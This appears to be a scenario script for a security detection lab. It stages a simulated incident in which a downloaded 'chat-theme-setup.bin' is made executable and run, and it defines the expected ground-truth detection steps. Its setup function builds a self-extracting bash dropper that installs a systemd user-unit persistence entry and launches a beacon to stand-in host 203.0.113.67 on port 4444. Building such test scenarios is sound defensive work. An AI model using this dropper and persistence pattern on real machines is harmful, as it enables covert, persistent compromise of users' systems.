title="The log begins after the download: a program run from ~/Downloads"
what="intern saved chat-theme-setup.bin from a chat with Chromium yesterday; the logs of that day are lost to rotation. Today it is made executable and run; it connects to 203.0.113.67 port 4444 and leaves a user unit."
host=ws3.example.org user=intern daemons="cron sshd"
shift_plan="today:25m"
setup() {
  mkdir -p "$base/out/www/att"
  { printf '#!/bin/bash\nmkdir -p ~/.config/systemd/user\nprintf "[Service]\\nExecStart=%%h/.cache/thm 203.0.113.67 4444\\n" > ~/.config/systemd/user/theme.service\nsed 1,/^DATA/d "$0" | base64 -d > ~/.cache/thm; chmod 755 ~/.cache/thm; ~/.cache/thm 203.0.113.67 4444; exit\nDATA\n'; cc -O1 -s -o "$base/out/thm" "$lab/lib/stand-ins/beacon.c" && base64 "$base/out/thm"; } > "$base/out/www/att/chat-theme-setup.bin"
}
act() {
  display_up
  chromium_as intern https://chat.example.com/att/chat-theme-setup.bin
  wait_file /home/intern/Downloads/chat-theme-setup.bin 40; sleep 3
  desktop_close
  sleep 2
  phase today
  small_talk 4
  ssh_run ops 'df -h /home'
  console_as intern <<'L'
ls -l Downloads
chmod u+x Downloads/chat-theme-setup.bin
Downloads/chat-theme-setup.bin
L
  small_talk 1
}
truth() {
  file_step chmod '/chmod chmod .*Downloads/chat-theme-setup.bin' 'made executable'
  exec_step execute '/home/intern/Downloads/chat-theme-setup.bin|Downloads/chat-theme-setup.bin' 'run'
  exec_step program '.cache/thm 203.0.113.67' 'it leaves a program'
  net_step beacon '203.0.113.67:4444' 'which connects'
}
